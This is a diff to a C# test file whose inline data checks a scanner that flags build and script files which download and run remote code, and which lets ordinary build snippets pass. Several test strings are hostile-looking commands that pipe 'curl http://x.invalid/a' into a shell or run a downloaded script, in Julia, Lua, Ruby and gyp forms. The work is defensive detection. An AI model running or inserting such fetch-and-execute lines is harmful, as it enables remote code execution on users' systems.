@@ -19,6 +19,7 @@ public sealed class ForeignCallTests
     [InlineData("prepare.jl", "run(`sh -c \"curl http://x.invalid/a | sh\"`)\n")]
     [InlineData("prepare.jl", "using Downloads\nDownloads.download(\"http://x.invalid/a.sh\", \"a.sh\")\nrun(`bash a.sh`)\n")]
     [InlineData("init.lua", "local c = 'curl http://x.invalid/a | sh'\nos.execute(c)\n")]
+    [InlineData("start.R", "system('/dev/shm/agent --quiet')\n")]
     [InlineData("Rakefile", "task :x do\n  system 'curl http://x.invalid/a | bash'\nend\n")]
     [InlineData("binding.gyp", "{\n  \"targets\": [{\"target_name\": \"t\", \"sources\": [\"<!@(curl -s http://x.invalid/g | sh; ls src/*.cc)\"]}]\n}\n")]
     public void T170_WhatABuildOrAScriptFetchesAndRunsIsFound(string name, string text)
@@ -34,6 +35,9 @@ public sealed class ForeignCallTests
     [InlineData("fit.R", "library(xgboost)\ndownload.file('https://x.invalid/d.csv', 'd.csv')\nd <- read.csv('d.csv')\nsource('util.R')\n")]
     [InlineData("fit.jl", "using Flux\ninclude(\"model.jl\")\nrun(`nvidia-smi`)\n")]
     [InlineData("init.lua", "local m = dofile('model.lua')\nprint(m)\n")]
+    [InlineData("operators.R", "`/.torch_tensor` <- function(e1, e2) {\n  torch_div(e1, e2)\n}\nSys.setenv(URL=\"/tmp/libtorch.zip\")\n")]
+    [InlineData("map.pl", "$a =~ s:^\\[(.+)/.+\\](|\\-)$:$1$2:; # e.g. [IT'N/ISN'T]\n")]
+    [InlineData("flake.nix", "{ venvDir = \"./.venv\"; }\n")]
     [InlineData("binding.gyp", "{\n  \"targets\": [{\"target_name\": \"t\", \"include_dirs\": [\"<!@(node -p \\\"require('node-addon-api').include\\\")\"]}]\n}\n")]
     public void OrdinaryBuildsPass(string name, string text)
     {
